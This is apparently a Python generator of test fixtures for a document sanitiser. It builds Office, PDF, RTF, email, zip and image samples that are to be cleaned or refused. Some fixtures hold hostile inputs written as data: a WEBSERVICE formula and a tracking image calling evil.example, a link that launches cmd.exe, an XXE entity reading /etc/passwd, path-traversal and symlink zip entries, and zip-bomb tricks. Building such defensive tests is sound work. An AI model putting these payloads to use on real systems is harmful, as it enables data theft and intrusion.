def chart(external="", parts=(), rels=()):
    """A slide with a pie of two points, and perhaps the workbook they came from."""
    points = '<c:numRef><c:f>集計!$A$1:$A$2</c:f><c:numCache><c:ptCount val="2"/><c:pt idx="0"><c:v>12</c:v></c:pt><c:pt idx="1"><c:v>34</c:v></c:pt></c:numCache></c:numRef>'
    body = f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:layout/><c:pieChart><c:varyColors val="1"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val>{points}</c:val></c:ser></c:pieChart></c:plotArea></c:chart>{external}</c:chartSpace>'
    drawn = frame("http://schemas.openxmlformats.org/drawingml/2006/chart", '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId2"/>')
    return pptx(words("世帯数の推移") + drawn, [("ppt/charts/chart1.xml", OOX + "drawingml.chart+xml", HEAD + body) + ((list(rels),) if rels else ())] + list(parts), [("rId2", "chart", "../charts/chart1.xml", False)],
                defaults=[("png", "image/png"), ("xlsx", SML + "sheet"), ("xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12")])


def timing(effects):
    node = '<p:par><p:cTn id="{}" {}>{}</p:cTn></p:par>'
    return '<p:timing><p:tnLst>' + node.format(1, 'dur="indefinite" restart="never" nodeType="tmRoot"', f"<p:childTnLst>{effects}</p:childTnLst>") + "</p:tnLst></p:timing>"


def presentations():
    text = words("窓口の案内")
    fade = '<p:par><p:cTn id="3" presetID="10" presetClass="entr" nodeType="clickEffect"><p:childTnLst><p:animEffect transition="in" filter="fade"><p:cBhvr><p:cTn id="4" dur="500"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:animEffect></p:childTnLst></p:cTn></p:par>'
    macro = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    yield "a_presentation_stays", "pptx", with_picture(behind='<p:transition spd="slow"><p:fade/></p:transition>' + timing(fade))
    yield "a_slide_leads_to_a_slide", "pptx", pptx(words("目次", '<a:hlinkClick r:id="rId2" action="ppaction://hlinksldjump"/>') + words("次へ", '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'), [("ppt/slides/slide2.xml", PML + "slide+xml", HEAD + f"<p:sld {P}><p:cSld><p:spTree>{TREE_HEAD}{text}</p:spTree></p:cSld></p:sld>", [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False), ("rId2", "slide", "slide1.xml", False)])],
                                                   [("rId2", "slide", "slide2.xml", False)], [("rId3", "slide", "slides/slide2.xml", False)], slides='<p:sldId id="257" r:id="rId3"/>')
    yield "notes_and_comments_stay", "pptx", pptx(text, [("ppt/notesSlides/notesSlide1.xml", PML + "notesSlide+xml", HEAD + f"<p:notes {P}><p:cSld><p:spTree>{TREE_HEAD}{words('読み上げる原稿')}</p:spTree></p:cSld></p:notes>", [("rId1", "slide", "../slides/slide1.xml", False)]),
                                                         ("ppt/comments/comment1.xml", PML + "comments+xml", HEAD + f'<p:cmLst {P}><p:cm authorId="0" dt="2026-04-01T09:00:00.000" idx="1"><p:pos x="10" y="10"/><p:text>係長確認</p:text></p:cm></p:cmLst>'),
                                                         ("ppt/commentAuthors.xml", PML + "commentAuthors+xml", HEAD + f'<p:cmAuthorLst {P}><p:cmAuthor id="0" name="係" initials="係" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>')],
                                                  [("rId2", "notesSlide", "../notesSlides/notesSlide1.xml", False), ("rId3", "comments", "../comments/comment1.xml", False)], [("rId3", "commentAuthors", "commentAuthors.xml", False)])
    yield "a_chart_and_its_workbook_are_rebuilt", "pptx", chart('<c:externalData r:id="rId1"/>', [("ppt/embeddings/b.xlsx", None, xlsx('<c r="A1"><v>12</v></c><c r="B1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/")</f><v>前</v></c>'))], [("rId1", "package", "../embeddings/b.xlsx", False)])
    yield "the_workbook_of_a_chart_loses_its_macro", "pptx", chart('<c:externalData r:id="rId1"/>', [("ppt/embeddings/b.xlsm", None, xlsx('<c r="A1"><v>12</v></c>', [("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], [("rId2", macro, "vbaProject.bin", False)], main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))], [("rId1", "package", "../embeddings/b.xlsm", False)])
    yield "a_chart_loses_the_book_it_came_from", "pptx", chart('<c:externalData r:id="rId1"/>', rels=[("rId1", "oleObject", "file:///\\\\server\\share\\a.xlsx", True)])
    yield "a_hidden_slide_is_told", "pptx", pptx(text, attributes=' show="0"')
    yield "a_macro_goes_and_pptm_becomes_pptx", "pptm", pptx(text, [("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], rels=[("rId9", macro, "vbaProject.bin", False)], main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    yield "a_show_becomes_a_presentation", "ppsx", pptx(text, main_type=PML + "slideshow.main+xml")
    yield "a_template_becomes_a_presentation", "potx", pptx(text, main_type=PML + "template.main+xml")
    yield "a_show_with_macros_becomes_a_presentation", "ppsm", pptx(text, main_type="application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml")
    yield "a_click_that_runs_a_macro_goes", "pptx", with_picture('<a:hlinkClick r:id="" action="ppaction://macro?name=go"/>')
    yield "a_click_that_starts_a_program_goes", "pptx", with_picture('<a:hlinkClick r:id="rId3" action="ppaction://program"/>', rels=[("rId3", "hyperlink", "file:///c:/windows/system32/cmd.exe", True)])
    yield "a_hover_that_acts_goes", "pptx", with_picture('<a:hlinkMouseOver r:id="rId3" action="ppaction://program"/>', rels=[("rId3", "hyperlink", "https://www.example.jp/", True)])
    yield "a_link_with_a_bad_scheme_goes", "pptx", with_picture('<a:hlinkClick r:id="rId3"/>', rels=[("rId3", "hyperlink", "ms-powerpoint:ofe|u|http://evil.example/a.pptm", True)])
    yield "a_command_goes_its_neighbour_stays", "pptx", pptx(text, behind=timing(fade + '<p:par><p:cTn id="5"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="6"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par>'))
    yield "a_film_goes_its_poster_stays", "pptx", with_picture('<a:hlinkClick r:id="" action="ppaction://media"/>', '<a:videoFile r:link="rId3"/>', rels=[("rId3", "video", "../media/m.mp4", False)], parts=[("ppt/media/m.mp4", None, b"\0\0\0\x18ftypmp42film")],
           behind=timing('<p:video><p:cMediaNode><p:cTn id="2"/><p:tgtEl><p:spTgt spid="4"/></p:tgtEl></p:cMediaNode></p:video>'), defaults=[("png", "image/png"), ("mp4", "video/mp4")])
    yield "a_sound_goes", "pptx", pptx(text, [("ppt/media/s.wav", None, b"RIFFsound")], [("rId2", "audio", "../media/s.wav", False)], behind='<p:transition><p:cut/><p:sndAc><p:stSnd><p:snd r:embed="rId2" name="s"/></p:stSnd></p:sndAc></p:transition>', defaults=[("wav", "audio/wav")])
    yield "an_object_goes_its_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj name="物" r:id="rId3" imgW="1" imgH="1" progId="Package"><p:embed/>' + shape("") + "</p:oleObj>"), [PICTURE[0], ("ppt/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0object")], [PICTURE[1], ("rId3", "oleObject", "../embeddings/o.bin", False)], defaults=[("png", "image/png"), ("bin", OOX + "oleObject")])
    vml = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape id="_x0000_s1026" style="width:9pt;height:9pt"><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>'
    yield "an_old_object_goes_its_drawn_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj spid="_x0000_s1026" name="物" r:id="rId3" progId="PBrush"><p:embed/></p:oleObj>'), [PICTURE[0], ("ppt/drawings/v.vml", None, vml, [("rId1",) + PICTURE[1][1:]]), ("ppt/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0object")],
           [("rId2", "vmlDrawing", "../drawings/v.vml", False), ("rId3", "oleObject", "../embeddings/o.bin", False)], defaults=[("png", "image/png"), ("bin", OOX + "oleObject"), ("vml", OOX + "vmlDrawing")])
    yield "a_linked_object_goes_its_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj name="物" r:id="rId3" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/>' + shape("") + "</p:oleObj>"), [PICTURE[0]], [PICTURE[1], ("rId3", "oleObject", "file:///\\\\server\\a.xlsx!x", True)])
    yield "a_book_in_a_slide_is_rebuilt", "pptx", pptx(text + frame(OLE, '<p:oleObj name="表" r:id="rId3" progId="Excel.Sheet.12"><p:embed/>' + shape("") + "</p:oleObj>"), [PICTURE[0], ("ppt/embeddings/b.xlsx", None, book(12345))], [PICTURE[1], ("rId3", "package", "../embeddings/b.xlsx", False)], defaults=[("png", "image/png"), ("xlsx", SML + "sheet")])
    yield "an_activex_control_goes", "pptx", pptx(text, [("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")], [("rId2", "control", "../activeX/activeX1.xml", False)])
    yield "tags_go", "pptx", pptx(text, [("ppt/tags/tag1.xml", PML + "tags+xml", HEAD + f'<p:tagLst {P}><p:tag name="A" val="B"/></p:tagLst>')], rels=[("rId9", "tags", "tags/tag1.xml", False)], settings='<p:custDataLst><p:tags r:id="rId9"/></p:custDataLst>')
    yield "an_embedded_font_goes", "pptx", pptx(text, [("ppt/fonts/f.fntdata", None, b"font")], rels=[("rId9", "font", "fonts/f.fntdata", False)], settings='<p:embeddedFontLst><p:embeddedFont><p:font typeface="外字"/><p:regular r:id="rId9"/></p:embeddedFont></p:embeddedFontLst>', defaults=[("fntdata", "application/x-fontdata")])
    yield "a_place_to_publish_goes", "pptx", pptx(text, [("ppt/presProps.xml", PML + "presProps+xml", HEAD + f'<p:presentationPr {P}><p:htmlPubPr r:id="rId1"/><p:showPr><p:present/></p:showPr></p:presentationPr>', [("rId1", "htmlPubSaveAs", "\\\\server\\web\\a.htm", True)])], rels=[("rId9", "presProps", "presProps.xml", False)])
    yield "a_picture_from_outside_goes", "pptx", pptx(text + shape("").replace("r:embed", "r:link"), slide_rels=[("rId2", "image", "https://evil.example/track.png", True)])
    yield "a_signature_becomes_void", "pptx", pptx(text, [("_xmlsignatures/origin.sigs", None, b"")], root=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", False)], defaults=[("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")])
    yield "a_web_extension_goes", "pptx", pptx(text + frame("http://schemas.microsoft.com/office/webextensions/webextension/2010/11", '<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" r:id="rId2"/>'), [("ppt/webextensions/w.xml", "application/vnd.ms-office.webextension+xml", "<x/>")], [("rId2", "http://schemas.microsoft.com/office/2011/relationships/webextension", "../webextensions/w.xml", False)])
    yield "custom_xml_goes", "pptx", pptx(text, [("customXml/item1.xml", None, "<a/>")], rels=[("rId9", "customXml", "../customXml/item1.xml", False)])
    yield "entities_are_refused", "pptx", pptx(text, [("ppt/tableStyles.xml", PML + "tableStyles+xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')], rels=[("rId9", "tableStyles", "tableStyles.xml", False)])
    yield "unknown_markup_goes", "pptx", pptx(text + '<q:act xmlns:q="urn:unknown"><q:now/></q:act>')
    yield "a_program_before_the_presentation_is_refused", "pptx", b"MZ\x90\0program" + pptx(text)
    yield "two_parts_of_one_name_are_refused", "pptx", duplicate(pptx(text), b"ppt/presentation.xml", b"PPT/Presentation.xml")


def package_with_link(cell):
    link = ("xl/externalLinks/externalLink1.xml", SML + "externalLink+xml", HEAD + f'<externalLink {X}><externalBook r:id="rId1"/></externalLink>', [("rId1", "externalLinkPath", "file:///\\\\server\\a.xlsx", True)])
    return xlsx(cell + '<c r="C1"><f>[1]Sheet1!A1</f><v>7</v></c>', [link], [("rId2", "externalLink", "externalLinks/externalLink1.xml", False)], names='<externalReferences><externalReference r:id="rId2"/></externalReferences>')


def duplicate(archive, name, again):
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist()]
    return pack(members + [(again.decode(), dict(members)[name.decode()])])


def wrong_checksum(archive):
    at = archive.index(b"PK\1\2") + 16
    return archive[:at] + bytes([archive[at] ^ 1]) + archive[at + 1:]


def overlapping():
    """Two names for one body: what it unpacks to grows with the directory alone."""
    one = pack([("a.txt", b"0" * 1000)])
    start = one.index(b"PK\1\2")
    entry, end = one[start:-22], one[-22:]
    second = entry.replace(b"a.txt", b"b.txt")
    return one[:start] + entry + second + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, len(entry) * 2, start, 0)


def encrypted():
    a = bytearray(pack([("a.txt", b"secret")], method=zipfile.ZIP_STORED))
    for sign, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        a[a.index(sign) + at] |= 1
    return bytes(a)


def link():
    info = zipfile.ZipInfo("passwd")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(info, "/etc/passwd")
    return out.getvalue()


def renamed(archive, old, new):
    return archive.replace(old, new)


def archives():
    text = "受付の記録\r\n".encode("cp932")
    yield "an_archive_stays", "zip", pack([("記録.txt", text), ("絵/", b""), ("絵/図.png", png()), ("空/", b"")])
    yield "cp932_names_become_utf8", "zip", renamed(pack([("AB.txt", text), ("CDEF.txt", text)], method=zipfile.ZIP_STORED), b"AB", "表".encode("cp932")).replace(b"CDEF", "予算".encode("cp932"))
    yield "an_archive_in_an_archive_is_rebuilt", "zip", pack([("中.zip", pack([("記録.txt", text)]))])
    yield "a_document_with_a_macro_comes_out_without", "zip", pack([("申請.docm", next(d for n, e, d in documents() if e == "docm"))])
    yield "unsafe_names_are_made_safe", "zip", pack([("\u202efdp.txt", text), ("con.txt", text)])
    yield "litter_of_operating_systems_goes", "zip", pack([("記録.txt", text), ("__MACOSX/._記録.txt", b"\0\5\x16\7"), ("絵/.DS_Store", b"\0\0\0\1Bud1")])
    yield "a_program_inside_refuses_the_whole", "zip", pack([("記録.txt", text), ("setup.exe", b"MZ\x90\0program")])
    yield "a_name_that_climbs_is_refused", "zip", pack([("../../etc/cron.d/x", text)])
    yield "an_absolute_name_is_refused", "zip", pack([("/etc/passwd", text)])
    yield "a_name_with_backslashes_is_refused", "zip", renamed(pack([("aXb.txt", text)], method=zipfile.ZIP_STORED), b"aXb", b"a\\b")
    yield "a_link_is_refused", "zip", link()
    yield "names_that_differ_in_case_only_are_refused", "zip", pack([("a.txt", text), ("A.TXT", text)])
    yield "an_overlap_is_refused", "zip", overlapping()
    yield "an_encrypted_archive_is_refused", "zip", encrypted()
    yield "a_bomb_is_refused", "zip", pack([("zeros.txt", b"0" * (24 << 20))])
    yield "a_program_before_the_archive_is_refused", "zip", b"MZ\x90\0program" + pack([("a.txt", text)])
    deep = pack([("a.txt", text)])
    for _ in range(12):
        deep = pack([("in.zip", deep)], method=zipfile.ZIP_STORED)
    yield "archives_nested_too_deeply_are_refused", "zip", deep
    yield "bytes_behind_the_archive_are_refused", "zip", pack([("a.txt", text)]) + b"hidden"


def pdf(objects, info=False):
    """A document from its objects, numbered from 1; the first is the catalog, the last may be the information."""
    out, at = b"%PDF-1.7\n", []
    for i, o in enumerate(objects, 1):
        at.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1) + b"".join(b"%010d 00000 n \n" % a for a in at)
    return out + table + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(at) + 1, b"/Info %d 0 R" % len(at) if info else b"", len(out))


PAGES = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
CONTENT = b"<</Length 44>>stream\nBT /F1 12 Tf 20 100 Td (Written on page) Tj ET\nendstream"


def page(annotations):
    return [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Annots[%s]>>" % annotations, CONTENT]


def chosen():
    """What the policy of a passage takes away: format, sentence, extension, content, rules."""
    link = [("rId1", "hyperlink", "https://www.example.jp/", True)]
    tracked = ('<w:p><w:pPr><w:rPr><w:ins w:id="1" w:author="課長" w:date="2026-04-01T00:00:00Z"/></w:rPr><w:pPrChange w:id="2" w:author="課長"><w:pPr/></w:pPrChange></w:pPr>'
               + run("<w:t>申請は</w:t>") + '<w:del w:id="3" w:author="課長">' + run("<w:delText>窓口で</w:delText>") + '</w:del><w:ins w:id="4" w:author="課長">' + run("<w:t>郵送で</w:t>")
               + '</w:ins><w:moveFrom w:id="5" w:author="課長">' + run("<w:t>移す前</w:t>") + '</w:moveFrom><w:moveTo w:id="6" w:author="課長">' + run("<w:t>受け付けます。</w:t>") + "</w:moveTo></w:p>"
               '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>' + p("残る行") + '</w:tc></w:tr><w:tr><w:trPr><w:del w:id="7" w:author="課長"/></w:trPr><w:tc>' + p("消された行") + "</w:tc></w:tr></w:tbl>"
               '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:trPr><w:del w:id="8" w:author="課長"/></w:trPr><w:tc>' + p("消された表") + "</w:tc></w:tr></w:tbl>")
    comments = [("word/comments.xml", WML + "comments+xml", HEAD + f'<w:comments {W}><w:comment w:id="0" w:author="課長" w:initials="課">' + p("内々の話") + "</w:comment></w:comments>")]
    commented = '<w:p><w:commentRangeStart w:id="0"/>' + run("<w:t>本文</w:t>") + '<w:commentRangeEnd w:id="0"/>' + run('<w:commentReference w:id="0"/>') + "</w:p>"
    about = [("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", HEAD + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>作成者</dc:creator></cp:coreProperties>'),
             ("docProps/app.xml", OOX + "extended-properties+xml", HEAD + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>会社</Company></Properties>')]
    about_rels = [("rId8", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", False), ("rId9", "extended-properties", "docProps/app.xml", False)]
    linked = ('<w:p><w:hyperlink r:id="rId1">' + run("<w:t>市の手引</w:t>") + '</w:hyperlink><w:hyperlink w:anchor="目次">' + run("<w:t>目次へ</w:t>") + "</w:hyperlink></w:p><w:p>" + mark("begin")
              + instruction('HYPERLINK "https://www.example.jp/a"') + mark("separate") + run("<w:t>外へ</w:t>") + mark("end") + '<w:fldSimple w:instr="HYPERLINK &quot;mailto:a@example.jp&quot;">' + run("<w:t>宛先</w:t>") + "</w:fldSimple></w:p>")
    text = p("申請書") + "<w:p>" + run("<w:t>氏名</w:t><w:tab/><w:t>&lt;山田&gt;</w:t>") + "</w:p><w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>" + p("甲") + "</w:tc><w:tc>" + p("乙") + "</w:tc></w:tr></w:tbl>" + tracked
    yield "docx", "links_go_if_the_policy_says_so", "docx", docx(linked, rels=link), "links remove"
    yield "docx", "tracked_changes_are_taken_as_made_if_the_policy_says_so", "docx", docx(tracked, **settings("<w:trackRevisions/>")), "tracked changes remove"
    yield "docx", "comments_go_if_the_policy_says_so", "docx", docx(commented, comments, [("rId1", "comments", "comments.xml", False)]), "comments remove"
    yield "docx", "metadata_goes_if_the_policy_says_so", "docx", docx(p("本文"), about, root=about_rels), "metadata remove"
    yield "docx", "everything_stays_that_the_policy_does_not_name", "docx", docx(linked + commented, comments, link + [("rId2", "comments", "comments.xml", False)]), "metadata remove tracked changes keep"
    yield "docx", "only_its_text_if_the_policy_says_so", "docx", docx(text), "format docx text"
    yield "docx", "a_kind_that_the_policy_refuses", "docx", docx(p("本文")), "format docx refuse"
    yield "docx", "a_picture_of_a_kind_that_the_policy_refuses_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.png", None, png())], [("rId1", "image", "media/image1.png", False)], defaults=[("png", "image/png")]), "format png refuse"
    cell = '<c r="A1" t="str"><f>HYPERLINK("https://www.example.jp/","手引")</f><v>手引</v></c><c r="C1" s="1"><v>46113</v></c><c r="D1" s="2"><v>46113.5</v></c><c r="E1" t="b"><v>1</v></c><c r="F1" t="s"><v>0</v></c><c r="G1" t="inlineStr"><is><t>直接</t></is></c>'
    behind = '<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="C1" location="集計!A1"/></hyperlinks>'
    strings = ("xl/sharedStrings.xml", SML + "sharedStrings+xml", HEAD + f'<sst {X}><si><r><t>分けた</t></r><r><t>文字</t></r><rPh sb="0" eb="1"><t>ワケタ</t></rPh></si></sst>')
    styles = ("xl/styles.xml", SML + "styles+xml", HEAD + f'<styleSheet {X}><numFmts count="1"><numFmt numFmtId="176" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot; h:mm"/></numFmts><cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="176"/></cellXfs></styleSheet>')
    note = ("xl/comments1.xml", SML + "comments+xml", HEAD + f'<comments {X}><authors><author>課長</author></authors><commentList><comment ref="A1" authorId="0"><text><t>内々の話</t></text></comment></commentList></comments>')
    box = ("xl/drawings/vmlDrawing1.vml", OOX + "vmlDrawing", '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="s" style="width:9pt"><x:ClientData ObjectType="Note"><x:Row>0</x:Row></x:ClientData></v:shape></xml>')
    more = [("rId2", "sharedStrings", "sharedStrings.xml", False), ("rId3", "styles", "styles.xml", False)]
    yield "xlsx", "links_go_if_the_policy_says_so", "xlsx", xlsx(cell, (strings, styles), more, sheet_rels=link, behind=behind), "links remove"
    yield "xlsx", "comments_go_if_the_policy_says_so", "xlsx", xlsx(cell, (strings, styles, note, box), more, sheet_rels=[("rId1", "comments", "../comments1.xml", False), ("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml", False)], behind='<legacyDrawing r:id="rId2"/>'), "comments remove"
    yield "xlsx", "only_its_values_as_text_if_the_policy_says_so", "xlsx", xlsx(cell, (strings, styles), more), "format xlsx text"
    yield "rtf", "links_go_if_the_policy_says_so", "rtf", rb'{\rtf1\ansi\ansicpg932 {\field{\*\fldinst HYPERLINK "https://www.example.lg.jp/"}{\fldrslt link}}{\field{\*\fldinst PAGE}{\fldrslt 1}}\par}', "links remove"
    yield "rtf", "tracked_changes_are_taken_as_made_if_the_policy_says_so", "rtf", rb"{\rtf1\ansi\ansicpg932{\*\revtbl{Unknown;}{\'89\'db\'92\'b7;}}before {\revised\revauth1 added}{\deleted\revauthdel1 gone\u12354 ?\tab}\deleted again\deleted0  behind\par}", "tracked changes remove"
    yield "rtf", "comments_and_metadata_go_if_the_policy_says_so", "rtf", rb"{\rtf1\ansi\ansicpg932{\info{\author somebody}}text{\*\atnid A}{\*\atnauthor B}\chatn {\*\annotation between us}\par}", "comments remove metadata remove"
    yield "rtf", "only_its_text_if_the_policy_says_so", "rtf", "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fcharset128 M;}{\\f1\\fcharset0 T;}}{\\info{\\title x}}\\f0 ".encode() + b"".join(b"\\'%02x" % c for c in "受付表".encode("cp932")) + rb"\par\u12354 ?\u-10179 ?\u-8704 ? a\tab b{\*\annotation c}{\deleted d}\par}", "format rtf text"
    mail = 'From: a@example.jp\r\nSubject: =?utf-8?B?5oCl5ZGK?=\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n本文です。\r\n--b\r\nContent-Type: application/octet-stream; name="setup.exe"\r\nContent-Disposition: attachment; filename="setup.exe"\r\n\r\nMZ\r\n--b--\r\n'
    yield "eml", "only_its_text_if_the_policy_says_so", "eml", mail.encode(), "format eml text"
    yield "zip", "a_kind_that_the_policy_refuses_refuses_the_whole", "zip", pack([("a.txt", b"a\n"), ("b.csv", b"1,2\n")]), "format csv refuse"
    yield "pdf", "links_go_if_the_policy_says_so", "pdf", pdf(PAGES + page(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.example.jp/)>>>> <</Type/Annot/Subtype/Link/Rect[0 9 9 18]/Dest[3 0 R/Fit]>>")), "links remove"
    yield "pdf", "comments_go_if_the_policy_says_so", "pdf", pdf(PAGES + page(b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(between us)/T(chief)>> <</Type/Annot/Subtype/FreeText/Rect[9 9 99 18]/Contents(typed on the page)/T(chief)/DA(/Helv 9 Tf)>>")), "comments remove"
    yield "pdf", "only_pictures_of_its_pages_if_the_policy_says_so", "pdf", pdf(PAGES + page(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.example.jp/)>>>>")), "format pdf flatten"
    yield "pdf", "a_page_too_large_to_be_drawn_is_refused", "pdf", pdf(PAGES + page(b"")).replace(b"MediaBox[0 0 200 200]", b"MediaBox[0 0 9000 14000]").replace(b"/Annots[]", b""), "format pdf flatten"
    yield "pdf", "only_its_text_if_the_policy_says_so", "pdf", pdf(PAGES + page(b"")), "format pdf text"
    yield "pdf", "metadata_goes_if_the_policy_says_so", "pdf", pdf(PAGES + page(b"") + [b"<</Author(somebody)/Title(something)>>"], info=True), "metadata remove"


def pixels():
    picture = b"P6\n3 2\n255\n" + bytes(range(18))
    yield "a_picture_becomes_a_png", "ppm", picture
    yield "a_second_picture_behind_it_goes", "ppm", picture + picture
    yield "one_cut_short_is_refused", "ppm", picture[:-1]
    yield "one_of_too_many_pixels_is_refused", "ppm", b"P6 900000 900000 255\n" + bytes(64)
    yield "fine_steps_are_refused", "ppm", b"P6 1 1 65535\n" + bytes(6)


def main():
    for kind, name, extension, content, rules in chosen():
        if len(sys.argv) == 1 or kind in sys.argv[1:]:
            folder = CASES / kind / name
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"in.{extension}").write_bytes(content)
            (folder / "args").write_text(f"--rules '{rules}'\n")
    for kind, samples in (("docx", documents), ("xlsx", sheets), ("pptx", presentations), ("zip", archives), ("ppm", pixels)):
        if len(sys.argv) > 1 and kind not in sys.argv[1:]:
            continue
        for name, extension, content in samples():
            folder = CASES / kind / name
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"in.{extension}").write_bytes(content)


if __name__ == "__main__":
    main()
